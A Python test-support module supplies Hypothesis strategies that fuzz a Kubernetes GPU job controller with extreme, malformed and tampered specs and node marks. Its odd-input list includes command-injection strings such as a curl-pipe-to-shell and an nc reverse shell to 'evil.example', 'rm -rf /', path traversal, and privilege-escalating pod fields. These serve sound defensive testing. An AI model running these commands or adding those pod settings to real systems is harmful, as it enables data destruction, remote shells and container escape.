"""Hypothesis strategies for hostile input: odd text, odd numbers, malformed and extreme specs.

Two families:

* ``valid_spec_dicts`` — specs the models accept, pushed to their limits (8 phases, 5000
  nodes, 16 GPUs, long command lines, odd Unicode in args and env values);
* ``hostile_spec_dicts`` — a valid spec with one place broken: a value replaced by something
  of the wrong type, size or alphabet, a key removed, or an unknown key added.

And ``tampered_claims``: the marks a claim writes on a Node, then edited by someone else
(one mark removed, changed to another job's or no job's UID, another installation, a bad
role, a foreign quarantine note or taint value, a cordon).

Also Kubernetes' own name rules, as the API server checks them, so tests can say "valid".
"""

from __future__ import annotations

import re
import string
from typing import Any

from hypothesis import strategies as st

from phased.api.podtemplate import RESERVED_ENV_NAMES, RESERVED_ENV_PREFIXES, reserved_env
from phased.api.v1alpha1 import MAX_GPUS_PER_NODE, MAX_NODES, MAX_PHASES, GPUType
from phased.core import labels

# --- Kubernetes' rules (apimachinery/pkg/util/validation) ------------------------------------

DNS1123_LABEL = re.compile(r"^[a-z0-9]([-a-z0-9]*[a-z0-9])?$")
DNS1035_LABEL = re.compile(r"^[a-z]([-a-z0-9]*[a-z0-9])?$")
DNS1123_SUBDOMAIN = re.compile(r"^[a-z0-9]([-a-z0-9]*[a-z0-9])?(\.[a-z0-9]([-a-z0-9]*[a-z0-9])?)*$")
LABEL_VALUE = re.compile(r"^(([A-Za-z0-9][-A-Za-z0-9_.]*)?[A-Za-z0-9])?$")
_QUALIFIED_NAME = re.compile(r"^([A-Za-z0-9][-A-Za-z0-9_.]*)?[A-Za-z0-9]$")


def is_dns_label(text: str) -> bool:
    return len(text) <= 63 and DNS1123_LABEL.fullmatch(text) is not None


def is_dns1035_label(text: str) -> bool:
    return len(text) <= 63 and DNS1035_LABEL.fullmatch(text) is not None


def is_label_value(text: str) -> bool:
    return len(text) <= 63 and LABEL_VALUE.fullmatch(text) is not None


def is_qualified_name(key: str) -> bool:
    """A label or annotation key: ``[prefix/]name``, prefix a DNS subdomain ≤ 253."""
    prefix, slash, name = key.rpartition("/")
    if slash and (len(prefix) > 253 or DNS1123_SUBDOMAIN.fullmatch(prefix) is None):
        return False
    return 0 < len(name) <= 63 and _QUALIFIED_NAME.fullmatch(name) is not None


# --- odd text and numbers ------------------------------------------------------------------------

ODD_STRINGS = [
    "",
    " ",
    "\t",
    "\n",
    "a\nb",
    "\x00",
    "a\x00b",
    "\u202etxt.exe",  # right-to-left override
    "\u200b",  # zero-width space
    "a\u200db",  # zero-width joiner
    "\ufeff",  # byte-order mark
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629",  # Arabic (RTL)
    "\U0001f600\U0001f680",  # emoji
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",  # a ZWJ emoji sequence
    "é",
    "e\u0301",  # combining accent
    "İ",  # uppercases and lowercases to different lengths
    "\uff21\uff22",  # fullwidth letters
    "$(reboot)",
    "`id`",
    "; rm -rf / #",
    "&& curl evil.example | sh",
    "| nc -e /bin/sh evil.example 4444",
    "${PATH}",
    "$PHASED_RANK",
    "'\"",
    "\\",
    "../../../../etc/passwd",
    "%s%s%n",
    "{{ .Values }}",
    "{0}",
    "-",
    "--privileged",
    "A" * 4096,
    "x" * 64,
    "a" * 254,
    "UPPER",
    "name.with.dots",
    "under_score",
    "-leading",
    "trailing-",
]
# Lone surrogates survive JSON (\ud800) but cannot be encoded as UTF-8 (so not in YAML files).
SURROGATES = ["\ud800", "a\udfffb"]

odd_text = st.one_of(
    st.sampled_from(ODD_STRINGS),
    st.text(max_size=40),
    st.text(alphabet=st.characters(codec="utf-8"), min_size=1, max_size=8).map(lambda s: s * 700),
)
odd_text_with_surrogates = st.one_of(odd_text, st.sampled_from(SURROGATES))

odd_numbers = st.one_of(
    st.sampled_from([0, -1, 1, 2**31, 2**63, -(2**63), 10**30, 5001, 17, 201, True, False]),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=True, allow_infinity=True),
    st.sampled_from([0.5, 1.0, -0.0, 1e308, 8.000001]),
)

leaves = st.one_of(st.none(), st.booleans(), odd_numbers, odd_text)


def json_values(text: st.SearchStrategy[str] = odd_text) -> st.SearchStrategy[Any]:
    """Any JSON value, small, with odd leaves and odd keys."""
    leaf = st.one_of(st.none(), st.booleans(), odd_numbers, text)
    return st.recursive(
        leaf,
        lambda inner: st.one_of(
            st.lists(inner, max_size=4), st.dictionaries(text, inner, max_size=4)
        ),
        max_leaves=12,
    )


big_lists = st.one_of(
    st.integers(min_value=9, max_value=300).map(lambda n: ["x"] * n),
    st.integers(min_value=65, max_value=600).map(lambda n: [{"name": "train"}] * n),
)

# --- valid specs -----------------------------------------------------------------------------

_LOWER = string.ascii_lowercase
_LOWER_DIGITS = _LOWER + string.digits


def _dns_label(first: str, max_len: int) -> st.SearchStrategy[str]:
    """DNS-label-shaped names (cheaper than ``st.from_regex``): ``first`` chars, then
    ``[-a-z0-9]``, ending in ``[a-z0-9]``, at most ``max_len`` characters."""
    middle = st.text(alphabet=_LOWER_DIGITS + "-", max_size=max_len - 2)
    last = st.text(alphabet=_LOWER_DIGITS, min_size=1, max_size=1)
    head = st.sampled_from(first)
    return st.one_of(head, st.builds(lambda a, b, c: a + b + c, head, middle, last))


phase_names = _dns_label(_LOWER, 20)
job_names = _dns_label(_LOWER_DIGITS, 30)
namespaces = _dns_label(_LOWER_DIGITS, 63)
env_names = st.builds(
    lambda a, b: a + b,
    st.sampled_from(string.ascii_letters + "_"),
    st.text(alphabet=string.ascii_letters + string.digits + "_", max_size=30),
).filter(lambda n: not reserved_env(n))
reserved_env_names = st.one_of(
    st.sampled_from(RESERVED_ENV_NAMES),
    st.builds(
        lambda prefix, rest: prefix + rest,
        st.sampled_from(RESERVED_ENV_PREFIXES),
        st.text(alphabet=string.ascii_uppercase + "_", max_size=20),
    ),
)
# Text a person may put in args, env values and the like (the models take any Unicode).
user_text = st.one_of(st.sampled_from(ODD_STRINGS), st.text(max_size=60))
durations = st.one_of(
    st.sampled_from(["0s", "90s", "15m", "2h", "1h30m", "12d", "80d", "999999d", "1d2h3m4s"]),
    st.builds(
        lambda d, h, m, s: f"{d}d{h}h{m}m{s}s",
        st.integers(0, 999999),
        st.integers(0, 9999999),
        st.integers(0, 999999999),
        st.integers(0, 99999999999),
    ).filter(lambda text: len(text) <= 32),  # the pattern allows 37; maxLength is 32
)
short_graces = st.sampled_from(["0s", "30s", "10m", "1h", "1d", "86400s", "23h59m60s"])
quantities = st.builds(
    lambda n, frac, unit: f"{n}{frac}{unit}",
    st.integers(0, 10**10),
    st.sampled_from(["", ".5", ".125"]),
    st.sampled_from(["", "m", "k", "M", "G", "Ki", "Mi", "Gi", "Ti", "E"]),
)
resource_names = st.sampled_from(
    ["cpu", "memory", "ephemeral-storage", "hugepages-2Mi", "example.com/fpga", "rdma/ib"]
)
annotation_keys = st.sampled_from(
    [
        "team",
        "example.com/owner",
        "prometheus.io/scrape",
        "a.b.c/d_e-f.g",
        "x" * 63,
        "sidecar.istio.io/inject",
    ]
)


@st.composite
def templates(draw: st.DrawFn, *, image: bool) -> dict[str, Any]:
    out: dict[str, Any] = {}
    if image or draw(st.booleans()):
        out["image"] = draw(
            st.one_of(
                st.sampled_from(["registry.example/llm:1", "a", "x/y@sha256:" + "0" * 64]),
                st.text(
                    alphabet=st.characters(codec="utf-8", exclude_categories=("Zs", "Cc")),
                    min_size=1,
                    max_size=40,
                ).filter(lambda s: not any(c.isspace() for c in s)),
            )
        )
    if draw(st.booleans()):
        out["command"] = draw(st.lists(user_text, max_size=6))
    if draw(st.booleans()):
        out["args"] = draw(st.lists(user_text, max_size=8))
    if draw(st.booleans()):
        names = draw(st.lists(env_names, max_size=6, unique=True))
        out["env"] = [{"name": n, "value": draw(user_text)} for n in names]
    if draw(st.booleans()):
        out["resources"] = {
            "requests": draw(st.dictionaries(resource_names, quantities, max_size=3)),
            "limits": draw(st.dictionaries(resource_names, quantities, max_size=3)),
        }
    if draw(st.booleans()):
        values = user_text.map(lambda v: v[:1024])
        out["annotations"] = draw(st.dictionaries(annotation_keys, values, max_size=3))
    return out


@st.composite
def phases(draw: st.DrawFn, name: str) -> dict[str, Any]:
    lo = draw(st.integers(1, MAX_NODES))
    hi = draw(st.integers(lo, MAX_NODES))
    types = draw(st.lists(st.sampled_from(list(GPUType)), max_size=3, unique=True))
    out: dict[str, Any] = {
        "name": name,
        "nodes": {"min": lo, "max": hi},
        "gpuTypes": [t.value for t in types],
        "gpusPerNode": draw(st.integers(1, MAX_GPUS_PER_NODE)) if types else 0,
    }
    if draw(st.booleans()):
        out["template"] = draw(templates(image=False))
    if draw(st.booleans()):
        out["maxDuration"] = draw(durations)
        if draw(st.booleans()):
            out["expectedDuration"] = out["maxDuration"]
    elif draw(st.booleans()):
        out["expectedDuration"] = draw(durations)
    if draw(st.booleans()):
        out["completion"] = {"mode": draw(st.sampled_from(["AllSucceeded", "RankZeroSucceeded"]))}
    return out


@st.composite
def valid_spec_dicts(draw: st.DrawFn) -> dict[str, Any]:
    names = draw(st.lists(phase_names, min_size=1, max_size=MAX_PHASES, unique=True))
    spec: dict[str, Any] = {
        "phases": [draw(phases(n)) for n in names],
        "template": draw(templates(image=True)),
    }
    if draw(st.booleans()):
        spec["spares"] = {
            "count": draw(st.integers(0, 200)),
            "whileIdle": draw(st.sampled_from(["Reserved", "Preemptible"])),
        }
    if draw(st.booleans()):
        spec["failurePolicy"] = {
            "notReadyGrace": draw(short_graces),
            "gpuFaultGrace": draw(short_graces),
            "gpuDropGrace": draw(short_graces),
            "restartScope": draw(st.sampled_from(["Gang", "Worker"])),
            "restartBudget": draw(st.integers(0, 10000)),
            "interruptionBudget": draw(durations),
            "nodeReturn": draw(st.sampled_from(["Quarantine", "ReturnToSpares"])),
            "gpuFaultConditions": draw(
                st.lists(
                    st.sampled_from(["GPUXidError", "GPUUnhealthy", "a", "X.y-z_0"]), max_size=4
                )
            ),
            "massFailure": {
                "maxFailedPercent": draw(st.integers(1, 100)),
                # Windows longer than ~2000 years crash decide: pinned as a known bug in
                # test_decide_never_raises_and_never_touches_nodes_it_does_not_own.py.
                "window": draw(st.one_of(short_graces, st.sampled_from(["80d", "99999d"]))),
            },
        }
    if draw(st.booleans()):
        spec["checkpoint"] = {
            "interval": draw(st.sampled_from(["1m", "60s", "1h", "999999d"])),
            "path": "/" + draw(user_text)[:1000],
            "report": draw(st.booleans()),
            "finalTimeout": draw(st.sampled_from(["0s", "10m", "1d"])),
        }
        if draw(st.booleans()):
            spec["checkpoint"]["volume"] = draw(
                st.sampled_from(
                    [
                        {"claimName": "ckpt"},
                        {"size": "1Ti", "storageClassName": "nfs"},
                        {"size": "5"},
                    ]
                )
            )
    if draw(st.booleans()) or spec.get("failurePolicy", {}).get("restartScope") == "Worker":
        spec["launcher"] = {"type": "Torchrun", "rendezvous": "C10d"}
    if draw(st.booleans()):
        spec["priority"] = draw(st.integers(-1000, 1000))
    return spec


# --- broken specs ----------------------------------------------------------------------------


def _paths(value: Any, here: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Every place in a JSON value: dict keys and list indexes, depth first."""
    out = [here] if here else []
    if isinstance(value, dict):
        for key, item in value.items():
            out += _paths(item, (*here, key))
    elif isinstance(value, list):
        for i, item in enumerate(value):
            out += _paths(item, (*here, i))
    return out


def _parent(root: Any, path: tuple[Any, ...]) -> Any:
    for step in path[:-1]:
        root = root[step]
    return root


@st.composite
def broken(draw: st.DrawFn, spec: dict[str, Any], text: st.SearchStrategy[str]) -> dict[str, Any]:
    """``spec`` with one to three places broken."""
    for _ in range(draw(st.integers(1, 3))):
        paths = _paths(spec)
        path = draw(st.sampled_from(paths))
        parent = _parent(spec, path)
        how = draw(st.sampled_from(["replace", "replace", "replace", "delete", "extra", "huge"]))
        if how == "replace":
            parent[path[-1]] = draw(json_values(text))
        elif how == "huge":
            parent[path[-1]] = draw(st.one_of(big_lists, odd_numbers, odd_text))
        elif how == "delete" and isinstance(parent, dict):
            del parent[path[-1]]
        elif how == "delete":
            parent.pop(path[-1])
        else:
            target = parent if isinstance(parent, dict) else spec
            target[draw(text)] = draw(json_values(text))
    return spec


def hostile_spec_dicts(text: st.SearchStrategy[str] = odd_text_with_surrogates) -> Any:
    """Broken valid specs, plus wholly arbitrary values where a spec mapping belongs."""
    return st.one_of(
        valid_spec_dicts().flatmap(lambda s: broken(s, text)),
        valid_spec_dicts().flatmap(lambda s: broken(s, text)),
        valid_spec_dicts().flatmap(lambda s: broken(s, text)),
        json_values(text),
    )


# Fields a pod spec has and the worker template deliberately has not.
POD_ESCAPES = [
    "securityContext",
    "privileged",
    "allowPrivilegeEscalation",
    "capabilities",
    "hostNetwork",
    "hostPID",
    "hostIPC",
    "hostPath",
    "volumes",
    "volumeMounts",
    "serviceAccountName",
    "serviceAccount",
    "automountServiceAccountToken",
    "nodeName",
    "nodeSelector",
    "tolerations",
    "affinity",
    "initContainers",
    "runtimeClassName",
    "priorityClassName",
    "procMount",
    "seccompProfile",
    "shareProcessNamespace",
    "ports",
    "envFrom",
    "workingDir",
]
POD_ESCAPE_VALUES = st.one_of(
    st.just(True),
    st.just({"privileged": True}),
    st.just([{"name": "root", "hostPath": {"path": "/"}}]),
    st.just("default"),
    st.just({"add": ["SYS_ADMIN"]}),
    st.just([{"operator": "Exists"}]),
)


# --- tampered node marks ---------------------------------------------------------------------


@st.composite
def tampered_claims(
    draw: st.DrawFn, uids: list[str], installation: str
) -> tuple[dict[str, str], dict[str, str], list[dict[str, str]], bool]:
    """The labels, annotations, taints and cordon of a node a job of ``uids`` claimed as a
    claim writes them, then edited by a person or another controller: up to two marks
    removed, a label or taint value changed (another job's UID, no job's, another
    installation, a role Phased never writes), a quarantine note or taint added, a cordon."""
    uid = draw(st.sampled_from(uids))
    role = draw(st.sampled_from(["active", "spare", "quarantined"]))
    node_labels = {
        labels.LABEL_JOB_UID: uid,
        labels.LABEL_JOB: "llm",
        labels.LABEL_JOB_NAMESPACE: "ml",
        labels.LABEL_ROLE: role,
        labels.LABEL_INSTALLATION: installation,
    }
    annotations = {labels.ANNOTATION_CLAIMED_AT: "2026-03-01T10:00:00Z"}
    key = labels.TAINT_SPARE if role == "spare" and draw(st.booleans()) else labels.TAINT_POOL
    taints = [{"key": key, "value": uid, "effect": "NoSchedule"}]
    cordoned = False
    if role == "quarantined":
        taints.append({"key": labels.TAINT_QUARANTINE, "value": uid, "effect": "NoSchedule"})
        annotations[labels.ANNOTATION_QUARANTINE] = (
            f'{{"job": "{uid}", "reason": "NodeNotReady", "detected": "2026-03-01T11:00:00Z"}}'
        )
        cordoned = True
    someone = st.sampled_from([*uids, "uid-nobody", ""])
    edits = [
        "drop-label",
        "drop-annotation",
        "drop-taint",
        "uid",
        "taint-value",
        "role",
        "installation",
        "quarantine-note",
        "quarantine-taint",
        "cordon",
        "uncordon",
    ]
    for edit in draw(st.lists(st.sampled_from(edits), min_size=1, max_size=2)):
        if edit == "drop-label":
            node_labels.pop(draw(st.sampled_from(list(labels.OWNERSHIP_LABELS))), None)
        elif edit == "drop-annotation" and annotations:
            annotations.pop(draw(st.sampled_from(sorted(annotations))))
        elif edit == "drop-taint" and taints:
            taints.pop(draw(st.integers(0, len(taints) - 1)))
        elif edit == "uid":
            node_labels[labels.LABEL_JOB_UID] = draw(someone)
        elif edit == "taint-value" and taints:
            taints[draw(st.integers(0, len(taints) - 1))]["value"] = draw(someone)
        elif edit == "role":
            node_labels[labels.LABEL_ROLE] = draw(
                st.sampled_from(["active", "spare", "quarantined", "Active", "borrowed", ""])
            )
        elif edit == "installation":
            node_labels[labels.LABEL_INSTALLATION] = draw(st.sampled_from(["team-b", ""]))
        elif edit == "quarantine-note":
            annotations[labels.ANNOTATION_QUARANTINE] = (
                f'{{"job": "{draw(someone)}", "detected": "2026-03-01T11:00:00Z"}}'
            )
        elif edit == "quarantine-taint":
            taints.append(
                {"key": labels.TAINT_QUARANTINE, "value": draw(someone), "effect": "NoSchedule"}
            )
        elif edit == "cordon":
            cordoned = True
        elif edit == "uncordon":
            cordoned = False
    return node_labels, annotations, taints, cordoned
